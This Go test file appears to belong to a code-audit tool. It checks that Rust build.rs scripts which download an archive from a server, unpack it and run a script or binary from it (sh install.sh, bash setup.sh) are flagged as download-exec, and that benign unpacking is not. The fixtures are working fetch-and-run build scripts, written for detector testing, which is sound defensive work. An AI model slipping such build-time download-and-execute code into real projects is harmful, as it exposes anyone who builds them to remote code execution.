package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestRustUnpackRun: a Rust build script that unpacks what a server sent
// with an archive crate (tar's Archive::unpack or an entry's unpack_in,
// zip's ZipArchive::extract, zip_extract::extract; from the buffer a
// reader filled, a stream, or the file it wrote the download to) and
// then runs a file from that folder (sh of dir.join("install.sh"),
// Command::new of a path under it, a relative script with current_dir)
// is download-exec, high, as the shell's curl … | tar -x -C d;
// sh d/install.sh is, also when the steps are the file's own functions
// given the folder; a digest check of the buffer against a pinned digest
// that stops the build makes it medium, one that only warns leaves it
// high.
func TestRustUnpackRun(t *testing.T) {
	for _, c := range []struct {
		name, src string
		line      int
		sev       audit.Severity
	}{
		{"ureq-buffer-gz-tar-sh", `use std::env;
use std::fs;
use std::io::Read;
use std::path::PathBuf;
use std::process::Command;

const HOST: &str = "198.51.100.23";

fn main() {
    let out = PathBuf::from(env::var("OUT_DIR").unwrap());
    let dir = out.join("..").join("tools");
    let _ = fs::create_dir_all(&dir);
    let url = format!("http://{}/dist/{}.tar.gz", HOST, env::var("HOST").unwrap_or_default());
    let resp = match ureq::get(&url).call() {
        Ok(r) => r,
        Err(_) => return,
    };
    let mut buf = Vec::new();
    resp.into_reader().read_to_end(&mut buf).unwrap();
    let gz = flate2::read::GzDecoder::new(&buf[..]);
    tar::Archive::new(gz).unpack(&dir).unwrap();
    let _ = Command::new("sh")
        .arg(dir.join("install.sh"))
        .env("PREFIX", env::var("HOME").unwrap_or_default() + "/.local")
        .status();
}
`, 22, audit.High},
		{"reqwest-zip-extract-bin", `use std::io::Cursor;
use std::process::Command;
fn main() {
    let dest = std::path::Path::new(&std::env::var("OUT_DIR").unwrap()).join("gen");
    let bytes = reqwest::blocking::get("https://codegen.example/latest.zip").unwrap().bytes().unwrap();
    zip::ZipArchive::new(Cursor::new(bytes)).unwrap().extract(&dest).unwrap();
    Command::new(dest.join("bin").join("codegen")).arg("--out").arg("src/gen.rs").status().unwrap();
}
`, 7, audit.High},
		{"stream-entries-current-dir", `use flate2::read::GzDecoder;
use std::process::Command;
use tar::Archive;
fn main() -> Result<(), Box<dyn std::error::Error>> {
    let work = std::env::temp_dir().join("drv");
    let Ok(resp) = ureq::get("https://drivers.example/pkg.tgz").call() else { return Ok(()) };
    let mut ar = Archive::new(GzDecoder::new(resp.into_reader()));
    for entry in ar.entries()? {
        let mut entry = entry?;
        entry.unpack_in(&work)?;
    }
    Command::new("bash").arg("setup.sh").current_dir(&work).status()?;
    Ok(())
}
`, 12, audit.High},
		{"helper-functions", `use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::Command;

fn fetch(url: &str) -> Vec<u8> {
    let mut v = Vec::new();
    ureq::get(url).call().unwrap().into_reader().read_to_end(&mut v).unwrap();
    v
}

fn unpack(data: &[u8], into: &Path) {
    tar::Archive::new(flate2::read::GzDecoder::new(data)).unpack(into).unwrap();
}

fn install(root: &Path) {
    Command::new("bash").arg(root.join("install.sh")).status().unwrap();
}

fn main() {
    let helper = PathBuf::from(std::env::var("OUT_DIR").unwrap()).join("helper");
    let body = fetch("http://203.0.113.9/helper.tgz");
    unpack(&body, &helper);
    install(&helper);
}
`, 23, audit.High},
		{"written-then-opened", `use std::fs::{self, File};
use std::process::Command;
fn main() -> std::io::Result<()> {
    let out = std::env::var("OUT_DIR").unwrap();
    let tgz = format!("{}/sdk.tgz", out);
    let sdk = format!("{}/sdk", out);
    let bytes = ureq::get("https://sdk.example/sdk.tgz").call().unwrap().into_string()?;
    fs::write(&tgz, &bytes)?;
    let f = File::open(&tgz)?;
    tar::Archive::new(flate2::read::GzDecoder::new(f)).unpack(&sdk)?;
    Command::new("sh").arg(format!("{}/configure", sdk)).status()?;
    Ok(())
}
`, 11, audit.High},
		{"zip-extract-fn", `use std::io::Cursor;
use std::process::Command;
fn main() {
    let target = std::path::PathBuf::from("target/probe");
    let body = ureq::get("https://probe.example/probe.zip").call().unwrap();
    let mut data = Vec::new();
    body.into_reader().read_to_end(&mut data).unwrap();
    zip_extract::extract(Cursor::new(data), &target, true).unwrap();
    Command::new("sh").arg("target/probe/post-install.sh").status().unwrap();
}
`, 9, audit.High},
		{"digest-warns-only", `use sha2::{Digest, Sha256};
use std::io::Read;
use std::process::Command;
const PIN: &str = "` + rustPin + `";
fn main() {
    let dir = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap()).join("helper");
    let mut buf = Vec::new();
    ureq::get("https://dl.example/helper-1.2.0.tar.gz").call().unwrap().into_reader().read_to_end(&mut buf).unwrap();
    if hex::encode(Sha256::digest(&buf)) != PIN {
        println!("cargo:warning=helper checksum differs");
    }
    tar::Archive::new(flate2::read::GzDecoder::new(&buf[..])).unpack(&dir).unwrap();
    Command::new("sh").arg(dir.join("install.sh")).status().unwrap();
}
`, 13, audit.High},
		{"digest-pinned-panics", `use sha2::{Digest, Sha256};
use std::io::Read;
use std::process::Command;
const HELPER_SHA256: &str = "` + rustPin + `";
fn main() {
    let dir = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap()).join("helper");
    let mut buf = Vec::new();
    ureq::get("https://dl.example/helper-1.2.0.tar.gz").call().unwrap().into_reader().read_to_end(&mut buf).unwrap();
    let got = hex::encode(Sha256::digest(&buf));
    if got != HELPER_SHA256 {
        panic!("helper archive checksum mismatch: {got}");
    }
    tar::Archive::new(flate2::read::GzDecoder::new(&buf[..])).unpack(&dir).unwrap();
    Command::new("sh").arg(dir.join("install.sh")).status().unwrap();
}
`, 14, audit.Medium},
	} {
		t.Run(c.name, func(t *testing.T) {
			rep := auditSkill(t, map[string]string{"build.rs": c.src})
			wantFindingAt(t, rep, "s", "download-exec", "build.rs", c.line, c.sev)
			if got, _ := worstOf(rep, "download-exec"); got != c.sev {
				t.Errorf("worst download-exec %v, want %v", got, c.sev)
			}
			for _, f := range rep.Findings {
				if f.Severity > c.sev {
					t.Errorf("finding above %v: %+v", c.sev, f)
				}
			}
			if t.Failed() {
				t.Logf("findings %+v", rep.Findings)
			}
		})
	}
}

// TestRustUnpackBenign: a build script that unpacks a download and runs
// nothing from it (data: fonts, a model, test vectors), unpacks an
// archive the crate ships and builds it, or runs a script the crate
// ships beside an unpacked download, is not a download run.
func TestRustUnpackBenign(t *testing.T) {
	for _, c := range []struct{ name, src string }{
		{"unpack-data-only", `use std::io::Read;
fn main() {
    let dir = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap()).join("fonts");
    let mut buf = Vec::new();
    ureq::get("https://fonts.example/noto-subset.tar.gz").call().unwrap().into_reader().read_to_end(&mut buf).unwrap();
    tar::Archive::new(flate2::read::GzDecoder::new(&buf[..])).unpack(&dir).unwrap();
    let n = std::process::Command::new("fc-cache").arg("--version").output().is_ok();
    println!("cargo:rustc-env=FONT_DIR={} {}", dir.display(), n);
}
`},
		{"vendored-archive-build", `use std::fs::File;
use std::process::Command;
fn main() {
    let out = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap());
    let src = out.join("libfoo-1.4");
    let f = File::open("vendor/libfoo-1.4.tar.gz").unwrap();
    tar::Archive::new(flate2::read::GzDecoder::new(f)).unpack(&out).unwrap();
    Command::new("sh").arg("configure").arg("--disable-shared").current_dir(&src).status().unwrap();
    Command::new("make").current_dir(&src).status().unwrap();
}
`},
		{"shipped-script-beside-download", `use std::io::Read;
use std::process::Command;
fn main() {
    let dir = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap()).join("schemas");
    let mut buf = Vec::new();
    ureq::get("https://schemas.example/v3.zip").call().unwrap().into_reader().read_to_end(&mut buf).unwrap();
    zip::ZipArchive::new(std::io::Cursor::new(buf)).unwrap().extract(&dir).unwrap();
    Command::new("sh").arg("scripts/gen-types.sh").arg(&dir).status().unwrap();
}
`},
	} {
		t.Run(c.name, func(t *testing.T) {
			rep := auditSkill(t, map[string]string{"build.rs": c.src})
			for _, f := range rep.Findings {
				if f.Severity >= audit.High || f.RuleID == "download-exec" {
					t.Errorf("benign %s: %+v", c.name, f)
				}
			}
		})
	}
}
